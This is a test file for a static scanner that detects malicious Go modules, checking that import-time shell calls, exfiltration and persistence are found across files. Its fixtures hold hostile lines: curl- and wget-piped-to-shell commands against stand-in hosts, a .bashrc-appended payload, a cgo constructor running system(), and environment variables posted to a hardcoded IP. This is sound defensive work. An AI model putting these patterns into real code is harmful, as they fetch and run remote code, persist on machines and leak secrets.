// The scan parses only what rules and recovery need (scan-worker.ts): these tests pin what that must
// not change — contexts across files, recovery across files — and the text-level helpers behind it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { loadRules, defaultRulesDir } from '../src/static/rules/load.js';
import { collectPackages, scanModule } from '../src/static/scan.js';
import type { Finding } from '../src/result/schema.js';
import { fileLayout, callMentionsOf, mentionsOf, stripNonCode } from '../src/static/decls.js';
import { planPackage } from '../src/static/parse-plan.js';
import { MAX_COMPOSITE_SOURCE } from '../src/static/strings/interp.js';
import { foldLiteralChains, scanPackage } from '../src/static/scan-worker.js';
import { textualReach } from '../src/static/reach-text.js';
import { wordOccurs } from '../src/static/rules/prefilter.js';
import { makeModule } from './helpers/modules.js';

const rules = loadRules([defaultRulesDir()]);


/** Scans a module made of `files` (removed afterwards). */
async function scanFiles(files: Record<string, string>): ReturnType<typeof scanModule> {
  const dir = makeModule(files);
  try {
    return await scanModule(dir, { rules, workers: 0 });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('an init() in a file no rule admits still makes a function in another file import-time', async () => {
  const result = await scanFiles({
    'go.mod': 'module example.test/m\n',
    // no rule word here: this file is only parsed for its values and init
    'boot.go': 'package m\n\nfunc init() {\n\tsetup()\n}\n\nfunc setup() {\n\tstart()\n}\n',
    'run.go': 'package m\n\nimport "os/exec"\n\nfunc start() {\n\texec.Command("/bin/sh", "-c", "id").Start()\n}\n\nfunc Other() {\n\texec.Command("git", "status").Run()\n}\n',
  });
  const shell = result.findings.filter((f) => f.file === 'run.go' && f.line === 6);
  assert.ok(shell.length > 0, 'the shell call is found');
  assert.ok(shell.every((f) => f.context === 'reachable-from-init'), shell.map((f) => `${f.ruleId}:${f.context}`).join(' '));
  assert.ok(shell.some((f) => f.ruleId === 'import-time-exec-shell' || f.ruleId === 'import-time-exec'), shell.map((f) => f.ruleId).join(' '));
  const other = result.findings.filter((f) => f.file === 'run.go' && f.line === 10);
  assert.ok(other.every((f) => f.context === 'function'));
});

test('a string table in a file no rule admits is still read by recovery in another file', async () => {
  const result = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'table.go': 'package m\n\nvar tbl = []string{"wget ", "-O - ", "https://c2.example/x", " | /bin/sh"}\n\nfunc Unrelated() int { return 1 }\n',
    'run.go': 'package m\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("/bin/sh", "-c", tbl[0]+tbl[1]+tbl[2]+tbl[3]).Start()\n}\n',
  });
  const hits = result.findings.flatMap((f) => f.recoveredStrings);
  assert.ok(hits.some((s) => s.includes('wget -O - https://c2.example/x | /bin/sh')), hits.join(' | '));
  assert.ok(result.iocs.domains.includes('c2.example'));
});

test('fileLayout splits top-level declarations with their comments, not keywords inside bodies or literals', () => {
  const src = [
    'package p',
    '',
    'import (',
    '\t"fmt"',
    ')',
    '',
    '// Doc of A.',
    '//go:noinline',
    'func A() { s := "func B() {}"; _ = s }',
    '',
    'var f =',
    'func() { fmt.Println(`var x = 1`) }',
    '',
    'var (',
    '\ta, b = 1, 2',
    '\tc    int',
    ')',
    '',
    'func (r *T[K]) M() {}',
    'type T[K any] struct{}',
  ].join('\n');
  const layout = fileLayout(src);
  assert.equal(src.slice(0, layout.headerEnd).trimEnd(), 'package p\n\nimport (\n\t"fmt"\n)');
  assert.deepEqual(
    layout.chunks.map((c) => [c.kind, c.names.join(','), c.receiver ?? '']),
    [
      ['func', 'A', ''],
      ['var', 'f', ''],
      ['var', 'a,b,c', ''],
      ['method', 'M', 'T'],
      ['type', 'T', ''],
    ],
  );
  assert.ok(src.slice(layout.chunks[0]!.start, layout.chunks[0]!.end).includes('//go:noinline'));
  // chunks tile the file after the header
  layout.chunks.forEach((c, i) => assert.equal(c.start, i === 0 ? layout.headerEnd : layout.chunks[i - 1]!.end));
  assert.equal(layout.chunks.at(-1)!.end, src.length);
});

test('text reachability: calls and arguments in var initializers count, stored values do not', () => {
  const m = callMentionsOf('var x = run(f, g)\nvar table = map[int]op{1: h, 2: k}\nvar y = func() { q() }()');
  assert.ok(m.bare.has('run') && m.bare.has('f') && m.bare.has('g') && m.bare.has('q'));
  assert.ok(!m.bare.has('h') && !m.bare.has('k'));
  const src = 'package p\n\nfunc init() { one() }\n\nfunc one() {}\n\nfunc two() {}\n\nvar handlers = map[string]handler{"x": two}\n';
  const reach = textualReach([{ rel: 'a.go', source: src }]);
  assert.equal(reach('a.go', src.indexOf('func one')), true);
  assert.equal(reach('a.go', src.indexOf('func two')), false);
});

test('mentions: identifiers of code only, ASCII or not; literals and comments blanked to the same length', () => {
  const src = 'x := a.b(c) // d e\nπ := résumé + "f g" + `h\ni`';
  const m = mentionsOf(src);
  assert.deepEqual([...m.bare].sort(), ['a', 'c', 'résumé', 'x', 'π']);
  assert.deepEqual([...m.selected], ['b']);
  assert.deepEqual([...mentionsOf('x := a.b(c) /* d */ + "e"').bare].sort(), ['a', 'c', 'x']);
  const stripped = stripNonCode(src);
  assert.equal(stripped.length, src.length);
  assert.equal(stripped.split('\n').length, src.split('\n').length);
  assert.ok(!/[dfghi]/.test(stripped.replace(/résumé/, '')));
});

test('the parse plan does not follow a composite literal bigger than recovery evaluates, but does follow a var group or a pair', () => {
  const row = '\t{name: "op", argLen: 2},\n';
  const big = `var bigTable = [...]opInfo{\n${row.repeat(Math.ceil(MAX_COMPOSITE_SOURCE / row.length) + 10)}}\n`;
  const group = `var (\n\tgroupValue = "x"\n\tpadding = [...]opInfo{\n${row.repeat(Math.ceil(MAX_COMPOSITE_SOURCE / row.length) + 10)}}\n)\n`;
  const pair = `var pairValue, pairTable = smallTable[0], [...]opInfo{\n${row.repeat(Math.ceil(MAX_COMPOSITE_SOURCE / row.length) + 10)}}\n`;
  const source = [
    'package p\n',
    'import "encoding/base64"\n',
    // Needs a recovery run (a decoder), and names the three values.
    'func f() string { b, _ := base64.StdEncoding.DecodeString(smallTable[0]); return string(b) + bigTable[1].name + groupValue + pairValue }\n',
    'var smallTable = []string{"aWQ="}\n',
    big,
    group,
    pair,
    'func unrelated() {}\n',
  ].join('\n');
  const plan = planPackage([{ rel: 'a.go', source, imports: new Set(['encoding/base64']), parseAll: false, admitted: [], needsRun: true }], rules.rules).files.get('a.go');
  assert.ok(Array.isArray(plan), 'planned by declaration');
  const parsed = (name: string) => (plan as Array<[number, number]>).some(([a, b]) => a <= source.indexOf(name) && source.indexOf(name) < b);
  assert.equal(parsed('func f()'), true);
  assert.equal(parsed('var smallTable'), true);
  assert.equal(parsed('var bigTable'), false);
  assert.equal(parsed('groupValue = '), true);
  // Two names, two values: the small one may matter, so the declaration is followed.
  assert.equal(parsed('var pairValue'), true);
  assert.equal(parsed('func unrelated'), false);
});

test('literal chains are folded from text, comments skipped', () => {
  const folded = foldLiteralChains('package p\n// "a" + "b"\nvar c = "/bi" +\n\t"n/" + `sh`\nvar d = "x\\x41" + "y"\n');
  assert.deepEqual(folded, [
    { value: '/bin/sh', line: 3 },
    { value: 'xAy', line: 5 },
  ]);
  // a `//` inside a literal is not a comment
  assert.deepEqual(foldLiteralChains('package p\nvar u = "http://c2.example" + "/x" // "c" + "d"\n'), [{ value: 'http://c2.example/x', line: 2 }]);
});

test('whole-token needles: identifiers only match whole, non-ASCII neighbours never hide a match', () => {
  assert.equal(wordOccurs('x.GetConfig()', 'Get'), false);
  assert.equal(wordOccurs('x.Get(u)', 'Get'), true);
  assert.equal(wordOccurs('bytes.Buffer', 'byte'), false);
  assert.equal(wordOccurs('[]byte{1}', 'byte'), true);
  assert.equal(wordOccurs('éGet', 'Get'), true);
});

test('the static scan cache gives the same result and follows file changes', async () => {
  const { ScanCache } = await import('../src/static/scan-cache.js');
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'a.go': 'package m\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("/bin/sh", "-c", "id").Run()\n}\n',
  });
  const cacheDir = mkdtempSync(join(tmpdir(), 'gosnare-cache-'));
  try {
    const strip = (r: Awaited<ReturnType<typeof scanModule>>) => ({ ...r, durationMs: 0 });
    const first = await scanModule(dir, { rules, workers: 0, cache: new ScanCache(cacheDir, rules.hash) });
    assert.ok(readdirSync(cacheDir).length > 0, 'the first scan stored its package');
    const second = await scanModule(dir, { rules, workers: 0, cache: new ScanCache(cacheDir, rules.hash) });
    assert.deepEqual(strip(second), strip(first));
    assert.ok(first.findings.some((f) => f.ruleId === 'import-time-exec'));
    writeFileSync(join(dir, 'a.go'), 'package m\n\nfunc F() int { return 1 }\n');
    const changed = await scanModule(dir, { rules, workers: 0, cache: new ScanCache(cacheDir, rules.hash) });
    assert.equal(changed.findings.length, 0);
  } finally {
    rmSync(dir, { recursive: true, force: true });
    rmSync(cacheDir, { recursive: true, force: true });
  }
});

test('a function registered into a field in init is not import-time code; one called through a local is', async () => {
  const a = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'cmd.go':
      'package m\n\nimport "os/exec"\n\ntype command struct{ Run func() }\n\nvar cmdBuild = &command{}\n\nfunc init() {\n\tcmdBuild.Run = runBuild\n}\n\nfunc runBuild() {\n\texec.Command("/bin/sh", "-c", "make").Run()\n}\n',
  });
  const shellA = a.findings.filter((f) => f.ruleId === 'exec-shell-dash-c');
  assert.equal(shellA.length, 1);
  assert.equal(shellA[0]!.context, 'function');
  assert.ok(!a.findings.some((f) => f.ruleId.startsWith('import-time-')));
  const b = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'cmd.go': 'package m\n\nimport "os/exec"\n\nfunc init() {\n\tf := runBuild\n\tf()\n}\n\nfunc runBuild() {\n\texec.Command("/bin/sh", "-c", "make").Run()\n}\n',
  });
  assert.equal(b.findings.find((f) => f.ruleId === 'exec-shell-dash-c')?.context, 'reachable-from-init');
});

test('code in a closure a function returns is not run by calling the function at init', async () => {
  const r = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'viz.go':
      'package m\n\nimport "os/exec"\n\nvar render = invokeDot("svg")\n\nfunc invokeDot(format string) func() error {\n\treturn func() error {\n\t\treturn exec.Command("/bin/sh", "-c", "dot -T"+format).Run()\n\t}\n}\n',
  });
  const shell = r.findings.filter((f) => f.ruleId === 'exec-shell-dash-c');
  assert.equal(shell.length, 1);
  assert.equal(shell[0]!.context, 'function');
});

test('a function called only from a returned closure is not reached by calling the outer function at init', async () => {
  const r = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'viz.go':
      'package m\n\nimport "os/exec"\n\nvar open = visualizer("svg")\n\nfunc visualizer(format string) func() error {\n\treturn func() error {\n\t\treturn launch(format)\n\t}\n}\n\nfunc launch(f string) error {\n\treturn exec.Command("/bin/sh", "-c", "eog "+f).Start()\n}\n',
  });
  assert.equal(r.findings.find((f) => f.ruleId === 'exec-shell-dash-c')?.context, 'function');
});

/** Ordinary functions that make a file big enough for the declaration-level parse plan. */
function padding(n: number): string {
  return Array.from({ length: n }, (_, i) => `// Pad${i} formats a number.\nfunc Pad${i}(x int) string {\n\treturn strings.Repeat("-", x+${i})\n}\n`).join('\n');
}

test('only the declarations on call paths from init are parsed, and placement is that of a whole parse', async () => {
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'boot.go': 'package m\n\nfunc init() {\n\tstage1()\n}\n',
    // stage1 -> stage2 (another file, no rule word) -> fire (a big file parsed by declaration)
    'mid.go': `package m\n\nimport "strings"\n\nfunc stage1() {\n\tstage2()\n}\n\nfunc stage2() {\n\tfire()\n}\n\n${padding(150)}`,
    'big.go': `package m\n\nimport (\n\t"os/exec"\n\t"strings"\n)\n\n${padding(150)}\nfunc shell() string {\n\treturn "/bin/" + "sh"\n}\n\nfunc fire() {\n\texec.Command(shell(), "-c", "id").Start()\n}\n\nfunc Other() {\n\texec.Command("git", "status").Run()\n}\n`,
  });
  try {
    const tasks = collectPackages(dir);
    assert.equal(tasks.length, 1);
    const partial = await scanPackage(tasks[0]!, rules);
    const whole = await scanPackage(tasks[0]!, rules, { whole: true });
    const key = (f: Finding) => `${f.ruleId} ${f.file}:${f.line} ${f.context ?? ''} ${f.recoveredStrings.join('|')}`;
    assert.deepEqual(partial.findings.map(key).sort(), whole.findings.map(key).sort());
    const fire = partial.findings.filter((f) => f.file === 'big.go' && f.function === 'fire');
    assert.ok(fire.some((f) => f.ruleId === 'import-time-exec-shell' && f.context === 'reachable-from-init'), partial.findings.map(key).join('\n'));
    // the helper's value reached the rule through the declaration closure
    assert.ok(fire.some((f) => f.recoveredStrings.includes('/bin/sh')), partial.findings.map(key).join('\n'));
    assert.ok(partial.findings.filter((f) => f.function === 'Other').every((f) => f.context === 'function'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a call through a package variable holding exec.Command is found in a file parsed by declaration', async () => {
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'big.go': `package m\n\nimport (\n\t"os/exec"\n\t"strings"\n)\n\nvar run = exec.Command\n\n${padding(150)}\nfunc init() {\n\trun("/bin/sh", "-c", "id").Start()\n}\n`,
  });
  try {
    const tasks = collectPackages(dir);
    const partial = await scanPackage(tasks[0]!, rules);
    const whole = await scanPackage(tasks[0]!, rules, { whole: true });
    const key = (f: Finding) => `${f.ruleId} ${f.file}:${f.line} ${f.context ?? ''}`;
    assert.deepEqual(partial.findings.map(key).sort(), whole.findings.map(key).sort());
    assert.ok(partial.findings.some((f) => f.ruleId === 'import-time-exec-shell' && f.context === 'init'), partial.findings.map(key).join('\n'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('on every sample, the partial scan finds what a whole parse finds', async () => {
  const samples = join(dirname(defaultRulesDir()), 'samples');
  for (const name of readdirSync(samples)) {
    for (const task of collectPackages(join(samples, name))) {
      const key = (f: Finding) => `${f.ruleId} ${f.file}:${f.line}:${f.column} ${f.context ?? ''} ${f.function ?? ''} ${f.recoveredStrings.join('|')}`;
      const partial = (await scanPackage(task, rules)).findings.map(key).sort();
      const whole = (await scanPackage(task, rules, { whole: true })).findings.map(key).sort();
      assert.deepEqual(partial, whole, `${name}/${task.dir}`);
    }
  }
});

test('text-with-values reads package values from a file no rule admits, and only through names the function uses', async () => {
  const client = (url: string) =>
    `package m\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc (c *Client) warm() {\n\thttp.Post(${url}, "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))\n}\n\ntype Client struct{}\n`;
  const consts = 'package m\n\nconst reportHost = "203.0.113.44"\n\nvar reportURL = "https://" + reportHost + "/r"\n\nvar other = "https://198.51.100.1/x"\n';
  const named = await scanFiles({ 'go.mod': 'module example.test/m\n', 'consts.go': consts, 'client.go': client('reportURL') });
  assert.ok(
    named.findings.some((f) => f.ruleId === 'exfil-environ-to-hardcoded-host' && f.file === 'client.go' && f.function === 'Client.warm'),
    named.findings.map((f) => f.ruleId).join(' '),
  );
  // The same package values, not named by the function: the destination is the caller's.
  const unnamed = await scanFiles({ 'go.mod': 'module example.test/m\n', 'consts.go': consts, 'client.go': client('os.Args[1]') });
  assert.ok(!unnamed.findings.some((f) => f.ruleId === 'exfil-environ-to-hardcoded-host'), unnamed.findings.map((f) => f.ruleId).join(' '));
  assert.ok(unnamed.findings.some((f) => f.ruleId === 'exfil-environ-to-network'));
});

test('a function alias declared in one file is followed where another file calls it', async () => {
  const result = await scanFiles({
    'go.mod': 'module example.test/m\n',
    // Neither file alone shows the call: a.go has no call, b.go never names os/exec.
    'a.go': 'package m\n\nimport "os/exec"\n\nvar run = exec.Command\n',
    'b.go': 'package m\n\nfunc init() {\n\trun("/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh").Start()\n}\n',
  });
  const ids = result.findings.filter((f) => f.file === 'b.go' && f.line === 4).map((f) => f.ruleId);
  assert.ok(ids.includes('import-time-exec-shell'), ids.join(' '));
  assert.ok(ids.includes('exec-download-pipe-shell'), ids.join(' '));
});

test('a function alias local to the calling function is followed', async () => {
  const result = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'a.go':
      'package m\n\nimport (\n\t"os/exec"\n\t"strings"\n)\n\nfunc init() {\n\trun := exec.Command\n\tup := strings.ToUpper\n\trun("/bin/sh", "-c", up("id"))\n}\n',
  });
  const ids = result.findings.filter((f) => f.line === 11).map((f) => f.ruleId);
  assert.ok(ids.includes('import-time-exec-shell'), ids.join(' '));
});

test('functions in a package table are import-time when init calls through the table, not when ordinary code does', async () => {
  const dial = 'package m\n\nimport "net"\n\nfunc setup() {\n\tnet.Dial("tcp", "203.0.113.70:9001")\n}\n\nfunc later() {\n\tnet.Dial("tcp", "203.0.113.71:9001")\n}\n';
  const result = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'dial.go': dial,
    // No rule word here: the scan must still parse this init to place setup.
    'hooks.go':
      'package m\n\nvar hooks = []func(){setup}\n\nvar handlers = map[string]func(){"later": later}\n\nfunc init() {\n\tfor _, h := range hooks {\n\t\th()\n\t}\n}\n\nfunc Run(name string) { handlers[name]() }\n',
  });
  const at = (line: number) => result.findings.filter((f) => f.file === 'dial.go' && f.line === line);
  assert.ok(at(6).some((f) => f.ruleId === 'import-time-network' && f.context === 'reachable-from-init'), at(6).map((f) => `${f.ruleId}:${f.context}`).join(' '));
  assert.ok(at(10).length > 0 && at(10).every((f) => f.context === 'function'), at(10).map((f) => `${f.ruleId}:${f.context}`).join(' '));
});

test('func literals held in a package table run at import time when init calls through it, not when ordinary code does', async () => {
  const files = {
    'go.mod': 'module example.test/m\n',
    // A big file: parsed by declaration, so the literal is placed through the call paths to it.
    'steps.go': `package m\n\nimport (\n\t"os/exec"\n\t"strings"\n)\n\n${padding(150)}\nvar steps = []func() error{\n\tfunc() error { return nil },\n\tfunc() error { return exec.Command("/bin/sh", "-c", "id").Run() },\n}\n\nvar handlers = map[string]func() error{\n\t"later": func() error { return exec.Command("/bin/sh", "-c", "uptime").Run() },\n}\n\n// Run runs a named handler.\nfunc Run(name string) error { return handlers[name]() }\n`,
    // No rule word here: the scan must still parse this init to place the literal.
    'boot.go': 'package m\n\nfunc init() {\n\tfor _, s := range steps {\n\t\t_ = s()\n\t}\n}\n',
  };
  const dir = makeModule(files);
  try {
    const [task] = collectPackages(dir);
    const partial = await scanPackage(task!, rules);
    const whole = await scanPackage(task!, rules, { whole: true });
    const key = (f: Finding) => `${f.ruleId} ${f.file}:${f.line} ${f.context ?? ''} ${f.function ?? ''}`;
    assert.deepEqual(partial.findings.map(key).sort(), whole.findings.map(key).sort());
    const id = partial.findings.filter((f) => f.snippet.includes('"id"'));
    assert.ok(id.some((f) => f.ruleId === 'import-time-exec-shell' && f.context === 'reachable-from-init'), partial.findings.map(key).join('\n'));
    const uptime = partial.findings.filter((f) => f.snippet.includes('uptime'));
    assert.ok(uptime.length > 0 && uptime.every((f) => f.context === 'function'), partial.findings.map(key).join('\n'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a rule reading package values needs their words somewhere in the package: another file or an embedded file meets it, none rules it out', async () => {
  const writer = 'package m\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc ensureEnv() {\n\thome, _ := os.UserHomeDir()\n\tf, err := os.OpenFile(filepath.Join(home, rcFile), os.O_APPEND|os.O_WRONLY, 0o644)\n\tif err == nil {\n\t\tf.WriteString(line)\n\t\tf.Close()\n\t}\n}\n';
  const fired = (r: Awaited<ReturnType<typeof scanFiles>>) => r.findings.some((f) => f.ruleId === 'persistence-startup-file-payload' && f.file === 'writer.go');
  const values = 'package m\n\nconst rcFile = ".bashrc"\n\nvar line = "\\n(curl -fsSL https://203.0.113.7/u.sh | sh) &\\n"\n';
  assert.ok(fired(await scanFiles({ 'go.mod': 'module example.test/m\n', 'writer.go': writer, 'values.go': values })), 'the start-up file named in another file of the package');
  const plain = 'package m\n\nconst rcFile = "settings.ini"\n\nvar line = "\\n(curl -fsSL https://203.0.113.7/u.sh | sh) &\\n"\n';
  assert.ok(!fired(await scanFiles({ 'go.mod': 'module example.test/m\n', 'writer.go': writer, 'values.go': plain })), 'no start-up file anywhere in the package');
  const embedded = 'package m\n\nimport _ "embed"\n\nconst rcFile = "settings.ini"\n\n//go:embed hook.txt\nvar line string\n';
  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'writer.go': writer, 'values.go': embedded, 'hook.txt': 'curl -fsSL https://203.0.113.7/u.sh | sh # ~/.bashrc\n' });
  try {
    // The start-up file's name is only in the embedded text.
    const result = await scanModule(dir, { rules, workers: 0 });
    assert.ok(fired(result), result.findings.map((f) => f.ruleId).join(' '));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a rule met only in the header (a cgo preamble above import "C") gets the header parsed in a file planned by declaration', async () => {
  const funcs = Array.from({ length: 300 }, (_, i) => `func F${i}(x int) int { return x * ${i} }\n`).join('\n');
  const source = `package m\n\n/*\n#include <stdio.h>\n__attribute__((constructor)) static void boot(void) { puts("hi"); }\n*/\nimport "C"\n\n${funcs}`;
  assert.ok(source.length > 8 * 1024);
  const result = await scanFiles({ 'go.mod': 'module example.test/m\n', 'big.go': source });
  assert.deepEqual(result.findings.map((f) => `${f.ruleId}:${f.line}`), ['cgo-preamble-constructor:3']);
});

test('a cgo file with no declaration at all, only a preamble constructor, is parsed (runc nsenter.go shape)', async () => {
  const result = await scanFiles({
    'go.mod': 'module example.test/m\n',
    'boot.go': 'package m\n\n/*\n#include <stdlib.h>\nvoid __attribute__((constructor)) boot(void) {\n\tsystem("curl -s http://203.0.113.6/x | sh");\n}\n*/\nimport "C"\n',
    'v.go': 'package m\n\nfunc Version() string { return "1.0" }\n',
  });
  assert.ok(result.findings.some((f) => f.ruleId === 'cgo-constructor-exec' && f.file === 'boot.go'), result.findings.map((f) => f.ruleId).join(' '));
});

test('a function a helper keeps in a table runs at import time when another file calls through the table at init', async () => {
  const files = {
    'go.mod': 'module example.test/m\n',
    'reg.go': 'package m\n\nvar handlers = map[string]func(){}\n\nfunc Register(name string, fn func()) {\n\tif _, dup := handlers[name]; dup {\n\t\tpanic(name)\n\t}\n\thandlers[name] = fn\n}\n',
    'payload.go': 'package m\n\nimport "os/exec"\n\nfunc init() { Register("x", payload) }\n\nfunc payload() { exec.Command("/bin/sh", "-c", "id").Run() }\n',
  };
  // Neither file nor the text path init -> payload holds the loop: the placement must ask for it.
  const fired = await scanFiles({ ...files, 'fire.go': 'package m\n\nfunc init() { fire() }\n\nfunc fire() {\n\tfor _, h := range handlers {\n\t\th()\n\t}\n}\n' });
  assert.deepEqual([...new Set(fired.findings.filter((f) => f.file === 'payload.go').map((f) => f.context))], ['reachable-from-init']);
  assert.ok(fired.findings.some((f) => f.ruleId === 'import-time-exec'));
  const kept = await scanFiles(files);
  assert.deepEqual([...new Set(kept.findings.filter((f) => f.file === 'payload.go').map((f) => f.context))], ['function']);
});
